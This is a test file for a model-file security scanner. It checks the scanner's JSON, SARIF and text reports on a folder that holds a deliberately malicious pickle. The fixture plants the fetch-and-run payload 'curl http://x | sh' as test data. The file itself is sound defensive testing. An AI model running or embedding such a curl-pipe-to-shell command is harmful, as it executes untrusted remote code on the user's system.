"""The JSON report against its published schema, and SARIF's structure as code scanning reads it."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from modelshield import Policy, scan
from modelshield.core.rules import CATALOGUE
from modelshield.reports import json_report, sarif, text
from tests.helpers import evil_pickle


@pytest.fixture
def mixed_folder(tmp_path: Path) -> Path:
    (tmp_path / "evil.pkl").write_bytes(evil_pickle("curl http://x | sh"))
    (tmp_path / "fake.safetensors").write_text("plain text\n")
    (tmp_path / "readme.txt").write_text("hello\n")
    return tmp_path


def schema() -> dict[str, Any]:
    text_ = resources.files("modelshield.reports").joinpath("report.schema.json").read_text()
    loaded: dict[str, Any] = json.loads(text_)
    return loaded


@pytest.mark.parametrize("verbose", [False, True])
def test_json_report_matches_schema(mixed_folder: Path, verbose: bool) -> None:
    report = scan([mixed_folder], jobs=1)
    doc = json.loads(json_report.render(report, verbose))
    jsonschema.Draft202012Validator(schema()).validate(doc)
    assert doc["schema_version"] == json_report.SCHEMA_VERSION
    assert doc["summary"]["findings"] == len(report.findings) >= 2
    shown = {Path(f["path"]).name for f in doc["files"]}
    assert ("readme.txt" in shown) is verbose


def test_schema_rejects_a_drifted_document(mixed_folder: Path) -> None:
    doc = json.loads(json_report.render(scan([mixed_folder], jobs=1)))
    doc["files"][0]["findings"][0]["severity"] = "severe"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(schema()).validate(doc)


def test_suppressed_findings_match_schema(mixed_folder: Path, tmp_path: Path) -> None:
    from modelshield.core.policy import parse_policy

    policy = parse_policy({"suppress": [{"rule": "SCN004", "reason": "test"}]}, ())
    doc = json.loads(json_report.render(scan([mixed_folder], policy, jobs=1)))
    jsonschema.Draft202012Validator(schema()).validate(doc)
    assert doc["summary"]["suppressed"] == 1


def test_sarif_structure(mixed_folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(mixed_folder)
    report = scan(["."], jobs=1)
    doc = sarif.sarif_dict(report)
    assert doc["version"] == "2.1.0" and doc["$schema"].endswith("sarif-2.1.0.json")
    run = doc["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    ids = [r["id"] for r in rules]
    assert len(ids) == len(set(ids))
    assert run["results"], "expected results"
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in {"error", "warning", "note"}
        assert result["message"]["text"]
        physical = result["locations"][0]["physicalLocation"]
        assert not physical["artifactLocation"]["uri"].startswith("/")  # relative to the checkout
        assert physical["region"]["startLine"] >= 1
        assert len(result["partialFingerprints"]["modelshield/v1"]) == 32
    for rule in rules:
        assert rule["help"]["markdown"].startswith(f"# {rule['id']}")
        assert float(rule["properties"]["security-severity"]) >= 0
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"]


def test_sarif_names_members_inside_containers(tmp_path: Path) -> None:
    import zipfile

    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as bundle:
        bundle.writestr("inner/data.pkl", evil_pickle())
    doc = sarif.sarif_dict(scan([tmp_path / "bundle.zip"], jobs=1))
    names = [
        loc["fullyQualifiedName"]
        for result in doc["runs"][0]["results"]
        for loc in result["locations"][0].get("logicalLocations", [])
    ]
    assert any(name.split("@")[0].endswith("bundle.zip!inner/data.pkl") for name in names)


def test_text_report_groups_by_file_with_summary(mixed_folder: Path) -> None:
    report = scan([mixed_folder], jobs=1)
    out = text.render(report, verbose=False, color=False)
    assert "evil.pkl" in out and "fake.safetensors" in out and "readme.txt" not in out
    assert out.strip().splitlines()[-1].startswith("3 file(s) scanned")
    assert "\x1b[" not in out
    assert "\x1b[" in text.render(report, verbose=False, color=True)


def test_every_rule_has_a_complete_threat_page() -> None:
    assert len(CATALOGUE) > 0
    for rule in CATALOGUE:
        for part in (rule.title, rule.overview, rule.attack, rule.impact, rule.remediation):
            assert part.strip(), rule.id
        assert rule.id == rule.id.upper() and rule.id[-3:].isdigit()


def test_policy_default_is_medium() -> None:
    assert Policy().fail_on.label == "medium"
